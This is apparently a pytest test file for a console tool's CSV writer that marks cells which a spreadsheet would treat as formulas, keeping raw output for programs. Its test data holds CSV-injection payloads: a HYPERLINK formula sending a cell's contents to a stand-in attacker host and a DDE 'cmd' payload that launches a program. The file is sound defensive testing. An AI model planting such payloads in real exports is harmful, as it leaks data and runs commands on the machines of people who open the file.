"""CSV that a spreadsheet opens without computing anything, and that programs read raw."""

import csv
import io

import pytest

from console.terminal.csv_rows import mark_text, print_csv

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1)@example.com',
    "+1-555@example.com",
    "-2+3+cmd|' /C calc'!A0@example.com",
    "@SUM(1+1)@example.com",
    " =1+1",
    "\uff1d1+1@example.com",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_marked_as_text(formula: str) -> None:
    assert mark_text(formula) == f"'{formula}"


@pytest.mark.parametrize(("cell", "marked"), [("\t=1+1", r"'\t=1+1"), ("\r=1", r"'\r=1"), ("\ta", r"'\ta")])
def test_a_cell_that_begins_with_a_control_is_marked_too(cell: str, marked: str) -> None:
    assert mark_text(cell) == marked


@pytest.mark.parametrize("number", ["-5", "+12", "-0.25", "1234", "0"])
def test_a_number_stays_a_number(number: str) -> None:
    assert mark_text(number) == number


@pytest.mark.parametrize(
    "cell", ["ada@example.com", "BOUNCE", "2026-11-22T07:00:00Z", "o'neil=x@example.com", ""]
)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert mark_text(cell) == cell


def test_rows_are_marked_for_people_and_raw_for_programs(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [
        ("EmailAddress", "Reason"),
        *((each, "BOUNCE") for each in [*FORMULAS, 'a,"b"@example.com', "\x1bx"]),
    ]

    print_csv(rows)
    marked = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    print_csv(rows, is_raw=True)
    raw = list(csv.reader(io.StringIO(capsys.readouterr().out)))

    assert [tuple(row) for row in raw] == rows
    assert [row[0] for row in marked] == [
        "EmailAddress",
        *(f"'{each}" for each in FORMULAS),
        'a,"b"@example.com',
        r"\x1bx",
    ]
